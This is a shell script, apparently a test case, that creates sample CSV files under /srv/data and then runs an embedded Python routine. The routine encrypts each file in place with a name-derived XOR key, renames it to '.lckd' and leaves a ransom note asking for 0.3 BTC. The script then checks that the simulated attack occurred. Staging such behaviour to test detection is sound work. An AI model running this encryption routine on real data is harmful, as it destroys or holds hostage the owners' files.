#!/bin/sh
. /opt/case/case.sh

for i in $(seq 60); do seq $i 3000 >/srv/data/table-$i.csv; done
python3 -c '
import hashlib, mmap, os
d = os.open("/srv/data", os.O_RDONLY)
for name in os.listdir(d):
    fd = os.open(name, os.O_RDWR, dir_fd=d)
    with mmap.mmap(fd, 0) as m:
        key = hashlib.shake_256(name.encode()).digest(len(m))
        m[:] = (int.from_bytes(m[:], "big") ^ int.from_bytes(key, "big")).to_bytes(len(m), "big")
    os.close(fd); os.rename(name, name + ".lckd", src_dir_fd=d, dst_dir_fd=d)
open("/srv/data/HOW-TO-RECOVER.txt", "w").write("send 0.3 BTC\n")'
test -s /srv/data/table-9.csv.lckd
took_place
